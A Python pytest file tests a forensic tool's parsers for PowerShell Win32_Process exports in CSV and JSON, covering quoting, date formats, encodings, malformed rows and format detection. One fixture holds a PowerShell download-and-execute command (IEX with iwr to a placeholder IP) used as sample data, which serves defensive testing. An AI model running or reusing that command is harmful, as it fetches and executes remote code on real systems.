"""PowerShell Win32_Process listings: Export-Csv / ConvertTo-Csv and ConvertTo-Json."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import ROOT, assert_same_in_every_encoding
from wormhunt.sources import FORMATS
from wormhunt.sources.base import MemorySink
from wormhunt.sources.detect import detect_file, detect_head
from wormhunt.sources.pscim import parse_csv, parse_json, sniff_csv, sniff_json

SAMPLES = ROOT.parent / "shared" / "reference" / "format-samples"
OURS = {"ps-cim-csv", "ps-cim-json"}

SVCHOST = r"C:\Windows\AppDiagnostics\svchost.exe"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
EVIL = """"powershell.exe" -nop -c "IEX (iwr 'http://1.2.3.4/a,b.ps1')", "x,y\""""


def ps_csv(*rows: tuple[str, ...]) -> str:
    """What Export-Csv writes: every field quoted, embedded quotes doubled."""
    return "".join(",".join('"' + c.replace('"', '""') + '"' for c in row) + "\n" for row in rows)


# Get-WmiObject | Export-Csv in PS 5.1: #TYPE line, CIM dates.
CSV_TYPE = "#TYPE System.Management.ManagementObject#root\\cimv2\\Win32_Process\n" + ps_csv(
    ("ProcessId", "ParentProcessId", "Name", "ExecutablePath", "CommandLine", "CreationDate"),
    ("4", "0", "System", "", "", "20231226170151.500000+480"),
    ("2280", "676", "svchost.exe", SVCHOST, SVCHOST + " -k netsvcs", "20231226170151.500000+480"),
    ("3332", "760", "powershell.exe", PS, EVIL, "20190822150231.560079-240"),
)

# Get-CimInstance | ConvertTo-Csv in PS 7: no #TYPE, culture-formatted (en-US) local dates.
CSV_CIM = ps_csv(
    ("Name", "ProcessId", "ParentProcessId", "CommandLine", "ExecutablePath", "CreationDate", "SessionId"),
    ("svchost.exe", "2280", "676", SVCHOST + " -k netsvcs", SVCHOST, "12/26/2023 5:01:51 PM", "0"),
    ("cmd.exe", "4100", "3332", 'cmd.exe /c "echo a,b"', r"C:\Windows\System32\cmd.exe", "8/2/2019 3:02:31 AM", "1"),
)

JSON_51 = r"""{
    "ProcessId":  16828,
    "Name":  "Notepad.exe",
    "ExecutablePath":  "C:\\Windows\\AppDiagnostics\\svchost.exe",
    "CommandLine":  "\"C:\\Windows\\AppDiagnostics\\svchost.exe\" -k \"a, b\" ",
    "CreationDate":  "\/Date(1790077571033)\/",
    "ParentProcessId":  20256
}
"""

JSON_7 = r"""[
  {
    "ProcessId": 2280,
    "ParentProcessId": 676,
    "Name": "svchost.exe",
    "ExecutablePath": "C:\\Windows\\AppDiagnostics\\svchost.exe",
    "CommandLine": "C:\\Windows\\AppDiagnostics\\svchost.exe -k netsvcs",
    "CreationDate": "2023-12-26T17:01:51.5000000+08:00"
  },
  {
    "ProcessId": 4,
    "ParentProcessId": 0,
    "Name": "System",
    "ExecutablePath": null,
    "CommandLine": null,
    "CreationDate": null
  }
]
"""


def run(parse, text: str) -> MemorySink:
    sink = MemorySink()
    parse(text, sink)
    return sink


def test_csv_with_type_line_and_cim_dates() -> None:
    sink = run(parse_csv, CSV_TYPE)
    rows = sink.of("processes")
    assert not sink.skip_counts
    assert [(r["pid"], r["ppid"], r["name"]) for r in rows] == [
        (4, 0, "System"),
        (2280, 676, "svchost.exe"),
        (3332, 760, "powershell.exe"),
    ]
    assert rows[0]["image_path"] is None and rows[0]["command_line"] is None
    assert rows[1]["image_path"] == r"C:\Windows\AppDiagnostics\svchost.exe"
    assert rows[1]["created"] == datetime(2023, 12, 26, 9, 1, 51, 500000)
    assert rows[2]["command_line"] == EVIL
    assert rows[2]["created"] == datetime(2019, 8, 22, 19, 2, 31, 560079)
    assert {r["source"] for r in rows} == {"ps-cim-csv"} and {r["host"] for r in rows} == {None}
    assert [r["line"] for r in rows] == [3, 4, 5]
    assert "local_time" not in sink.meta


def test_csv_without_type_culture_dates() -> None:
    sink = run(parse_csv, CSV_CIM)
    rows = sink.of("processes")
    assert not sink.skip_counts
    assert rows[0]["created"] == datetime(2023, 12, 26, 17, 1, 51)
    assert rows[1]["created"] == datetime(2019, 8, 2, 3, 2, 31)  # month first: 12/26 settled it
    assert rows[1]["command_line"] == 'cmd.exe /c "echo a,b"'
    assert [r["session"] for r in rows] == [0, 1]
    assert sink.meta["local_time"] is True


def test_csv_use_culture_semicolons_and_multiline_value() -> None:
    text = '"ProcessId";"ParentProcessId";"CommandLine"\n"10";"4";"a.exe ""x;y""\nsecond line"\n"11";"4";"b.exe"\n'
    sink = run(parse_csv, text)
    rows = sink.of("processes")
    assert [(r["pid"], r["command_line"]) for r in rows] == [(10, 'a.exe "x;y"\nsecond line'), (11, "b.exe")]
    assert [r["line"] for r in rows] == [2, 4]


def test_json_single_object_ps51() -> None:
    sink = run(parse_json, JSON_51)
    (row,) = sink.of("processes")
    assert (row["pid"], row["ppid"], row["name"]) == (16828, 20256, "Notepad.exe")
    assert row["created"] == datetime(2026, 9, 22, 11, 46, 11, 33000)
    assert row["command_line"] == '"C:\\Windows\\AppDiagnostics\\svchost.exe" -k "a, b" '
    assert row["source"] == "ps-cim-json" and row["host"] is None and row["line"] == 1


def test_json_array_ps7_iso_dates() -> None:
    sink = run(parse_json, JSON_7)
    rows = sink.of("processes")
    assert not sink.skip_counts
    assert [(r["pid"], r["ppid"]) for r in rows] == [(2280, 676), (4, 0)]
    assert rows[0]["created"] == datetime(2023, 12, 26, 9, 1, 51, 500000)
    assert rows[1]["created"] is None and rows[1]["image_path"] is None
    assert [r["line"] for r in rows] == [2, 10]
    assert "local_time" not in sink.meta


def test_json_appended_documents_and_wrapped_datetime() -> None:
    wrapped = '{"ProcessId": 5, "CreationDate": {"value": "\\/Date(1566855960142)\\/", "DateTime": "x"}}'
    sink = run(parse_json, JSON_51 + JSON_51 + wrapped)
    rows = sink.of("processes")
    assert [r["pid"] for r in rows] == [16828, 16828, 5]
    assert rows[2]["created"] == datetime(2019, 8, 26, 21, 46, 0, 142000)


@pytest.mark.parametrize(
    ("parse", "text", "name"),
    [
        (parse_csv, CSV_TYPE, "ps-cim-csv"),
        (parse_csv, CSV_CIM, "ps-cim-csv"),
        (parse_json, JSON_51, "ps-cim-json"),
        (parse_json, JSON_7, "ps-cim-json"),
    ],
)
def test_every_encoding(parse, text: str, name: str) -> None:
    assert_same_in_every_encoding(parse, text, "processes", name)


def test_every_encoding_chinese_values() -> None:
    text = CSV_TYPE.replace("System", "挖矿程序")
    assert_same_in_every_encoding(parse_csv, text, "processes", "ps-cim-csv")
    assert run(parse_csv, text).of("processes")[0]["name"] == "挖矿程序"


def test_malformed_csv_rows_are_counted() -> None:
    text = (
        '"stray row before header"\n'
        '"ProcessId","ParentProcessId","Name","CreationDate"\n'
        '"1","0","a.exe",""\n'
        '"x","0","bad pid",""\n'
        '"2","-1","bad ppid",""\n'
        '"3","0","bad date","not a date"\n'
        '"4","0"\n'
        '"5","0","b.exe","20231226170151.500000+480"\n'
        '"6","0","cut'
    )
    sink = run(parse_csv, text)
    assert [r["pid"] for r in sink.of("processes")] == [1, 5]
    assert sink.skip_counts == {
        "row before the CSV header": 1,
        "no valid ProcessId": 1,
        "bad ParentProcessId": 1,
        "bad CreationDate": 1,
        "wrong number of CSV fields": 1,
        "unterminated quoted field (cut short)": 1,
    }
    assert sorted(s.line for s in sink.skips) == [1, 4, 5, 6, 7, 9]


def test_stray_quote_does_not_swallow_the_file() -> None:
    rows = "\n".join(f'"{n}","0","p{n}.exe"' for n in range(2, 80))
    text = '"ProcessId","ParentProcessId","Name"\n"1","0","bad"quote.exe"\n' + rows + "\n"
    sink = run(parse_csv, text)
    assert len(sink.of("processes")) == 78
    assert sink.skipped == 1


def test_truncated_json_is_counted() -> None:
    sink = run(parse_json, JSON_7[:-60])
    assert sink.skipped >= 1
    assert [r["pid"] for r in sink.of("processes")] == [2280]
    sink = run(parse_json, '[{"ProcessId": 1, "Name": "a"}, 3, {"Name": "no pid"}]')
    assert sink.skip_counts == {"JSON value is not an object": 1, "no valid ProcessId": 1}


def test_sniffers() -> None:
    assert sniff_csv(CSV_TYPE) == sniff_csv(CSV_CIM) == 0.95
    assert sniff_json(JSON_51) == sniff_json(JSON_7) == 0.95
    assert sniff_csv(JSON_51) == sniff_json(CSV_TYPE) == 0.0
    for text in (CSV_TYPE, CSV_CIM, JSON_51, JSON_7):
        best = max(FORMATS.values(), key=lambda f: f.sniff(text))
        assert best.name in OURS
        others = [f.sniff(text) for f in FORMATS.values() if f.name not in OURS]
        assert max(others) < 0.95, [f.name for f in FORMATS.values() if f.name not in OURS and f.sniff(text) >= 0.95]


NOT_OURS = {
    "wmic process": "Node,CommandLine,CreationDate,ExecutablePath,Name,ParentProcessId,ProcessId\n"
    "HOST,C:\\a.exe -x,20231226170151.500000+480,C:\\a.exe,a.exe,4,100\n",
    "tasklist csv": ps_csv(
        ("Image Name", "PID", "Session Name", "Session#", "Mem Usage"),
        ("svchost.exe", "760", "Services", "0", "1,234 K"),
    ),
    "Get-ChildItem csv": "#TYPE System.IO.FileInfo\n"
    + ps_csv(
        ("FullName", "Length", "CreationTime", "LastWriteTime"),
        ("C:\\a.exe", "12", "1/2/2023 1:00:00 PM", "1/2/2023 1:00:00 PM"),
    ),
    "Get-FileHash csv": ps_csv(("Algorithm", "Hash", "Path"), ("SHA256", "A" * 64, "C:\\a.exe")),
    "Win32_Service csv": ps_csv(
        ("Name", "ProcessId", "PathName", "StartMode", "State"), ("x", "12", "C:\\x.exe", "Auto", "Running")
    ),
    "wmi subscription json": '{\n    "__CLASS":  "CommandLineEventConsumer",\n    "Name":  "x",\n'
    '    "CommandLineTemplate":  "cmd /c a",\n    "ExecutablePath":  null\n}\n',
    "zeek json": '{"ts":1591367999.305988,"uid":"CMdzit1AMNsmfAIiQc","id.orig_h":"192.168.4.76",'
    '"id.orig_p":36844,"id.resp_h":"192.168.4.1","id.resp_p":445,"proto":"tcp"}\n',
    "suricata json": '{"timestamp":"2020-05-19T18:00:39.016985+0200","flow_id":1,"event_type":"alert",'
    '"src_ip":"10.0.0.1","src_port":1,"dest_ip":"10.0.0.2","dest_port":445,"proto":"TCP"}\n',
}


@pytest.mark.parametrize("name", sorted(NOT_OURS))
def test_other_formats_not_claimed(name: str) -> None:
    text = NOT_OURS[name]
    assert sniff_csv(text) == 0.0 and sniff_json(text) == 0.0
    found = detect_head(text.encode(), complete=True)
    assert found.format is None or found.format.name not in OURS


def _text_files(root: Path) -> list[Path]:
    return sorted(
        p for p in root.rglob("*") if p.is_file() and p.suffix.lower() not in (".pcap", ".pcapng", ".evtx", ".gz")
    )


def test_reference_samples() -> None:
    if not SAMPLES.is_dir():
        pytest.skip(f"format samples not present at {SAMPLES}")
    json_sample = SAMPLES / "wmic_process" / "ps51_ConvertTo-Json_Win32_Process.json"
    sink = MemorySink()
    parse_json(json_sample.read_text(encoding="utf-8"), sink)
    (row,) = sink.of("processes")
    assert (row["pid"], row["ppid"], row["created"]) == (16828, 20256, datetime(2026, 9, 22, 11, 46, 11, 33000))
    nested = SAMPLES / "wmic_process" / "ps51_ConvertTo-Json_nested_explore-process.json"
    sink = MemorySink()
    parse_json(nested.read_text(encoding="utf-8"), sink)  # a truncated excerpt: counted, never raised
    assert sink.skipped == 1
    claimed = {p.name for p in _text_files(SAMPLES) if (d := detect_file(p)).format and d.format.name in OURS}
    assert claimed == {json_sample.name, nested.name}


def test_shared_data_not_claimed(shared_data: Path) -> None:
    for path in _text_files(shared_data):
        found = detect_file(path)
        assert found.format is None or found.format.name not in OURS, path


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from('"{}[],:;\n\\/ #TYPEProcessIdParentCreationDate0123456789.+-挖'), max_size=300))
def test_never_raises(text: str) -> None:
    for parse in (parse_csv, parse_json):
        parse(text, MemorySink())
        parse('"ProcessId","ParentProcessId","CreationDate"\n' + text, MemorySink())
        parse('{"ProcessId": 1, "CreationDate": ' + text, MemorySink())
    sniff_csv(text)
    sniff_json(text)


@settings(max_examples=100, deadline=None)
@given(st.integers(0, len(CSV_TYPE)), st.integers(0, len(JSON_7)))
def test_truncated_anywhere(cut_csv: int, cut_json: int) -> None:
    for parse, text in ((parse_csv, CSV_TYPE[:cut_csv]), (parse_json, JSON_7[:cut_json])):
        sink = MemorySink()
        parse(text, sink)
        assert all(isinstance(r["pid"], int) for r in sink.of("processes"))
